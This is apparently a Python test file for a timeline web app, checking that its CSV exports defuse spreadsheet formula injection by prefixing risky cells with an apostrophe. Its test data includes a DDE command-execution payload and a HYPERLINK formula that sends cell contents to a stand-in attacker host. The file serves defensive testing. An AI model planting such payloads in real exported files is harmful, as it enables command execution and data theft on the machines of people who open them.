"""CSV is opened in spreadsheets, which compute what strangers wrote: there it is text, and programs have it back."""

from __future__ import annotations

import csv
import re
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from events.registry import parse
from timeline import Timeline
from timeline.web import formulas
from timeline.web.serve import application

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1, "all, of it")',
    "+93 70 123\n=1+1",
    "-2+3",
    "@SUM(1)",
    "'=1+1",
    "\uff1d1+1",
]
HARMLESS = ["-1", "+3.5", "-1.5e3", "killed = 3", "a-b", "“=1”", "", "12"]
_CELLS = st.lists(st.text("=+-@'\",\t\r\n a1.\uff1d"), min_size=1, max_size=4)


def written(rows: list[list[Any]]) -> str:
    text = StringIO(newline="")
    csv.writer(text).writerows(rows)
    return text.getvalue()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


def as_it_was(cell: str) -> str:
    """What docs/publishing.md tells a program to do."""
    return re.sub("^'(?='*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20])", "", cell)


@given(st.lists(_CELLS, min_size=1, max_size=4))
def test_no_cell_is_a_formula_and_each_can_be_had_as_it_was(rows: list[list[str]]) -> None:
    safe = read(formulas.rows(written(rows)))
    assert [[as_it_was(cell) for cell in row] for row in safe] == read(written(rows))
    for cell in (cell for row in safe for cell in row):
        assert not cell.startswith(tuple("=@\t\r\n\uff1d\uff0b\uff0d\uff20"))
        assert not cell.startswith(("+", "-")) or float(cell) == float(cell)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas") / "helmand"
    with Timeline.init(folder, "HEL", title="Helmand") as timeline:
        source = {"type": "source_recorded", "key": "sheet", "kind": "news", "publisher": "@desk", "title": FORMULAS[1]}
        declared = {"type": "incident_declared", "slug": "here", "title": FORMULAS[0]}
        claims = [
            {
                "type": "other",
                "incident": "here",
                "description": "A post.",
                "note": said,
                "citation": {"source": "sheet", "locator": f"row {row}"},
            }
            for row, said in enumerate([*FORMULAS, *filter(None, HARMLESS)])
        ]
        events: list[dict[str, Any]] = [source, declared, *claims]
        timeline.append([parse(one) for one in events], recorded_by="desk")
    return folder


def test_hostile_text_is_no_formula_in_any_csv_of_the_site(hostile: Path, run: Any) -> None:
    app = application(hostile)

    def cells(path: str) -> list[dict[str, str]]:
        answer = run(app.client.get(path, follow_redirects=True))
        assert answer.status_code == 200
        return list(csv.DictReader(StringIO(answer.text, newline="")))

    expected = {f"'{said}" for said in FORMULAS} | set(filter(None, HARMLESS))
    for asked in ("", "?_size=max", "?_stream=on&_size=3", "?_labels=on", "?_dl=1"):
        assert expected <= {row["note"] for row in cells(f"/timeline/events.csv{asked}")}
    assert [row["title"] for row in cells("/timeline/sources.csv")] == [f"'{FORMULAS[1]}"]
    assert [row["publisher"] for row in cells("/timeline/sources.csv")] == ["'@desk"]
    asked = urlencode({"sql": "select -1 as number, '-1.50' as said, '=1' as text, null as none"})
    assert cells(f"/timeline.csv?{asked}") == [{"number": "-1", "said": "-1.50", "text": "'=1", "none": ""}]
    rows = run(app.client.get("/timeline/events.json?_shape=array&_size=max")).json()
    assert {*FORMULAS, *filter(None, HARMLESS)} <= {row["note"] for row in rows}
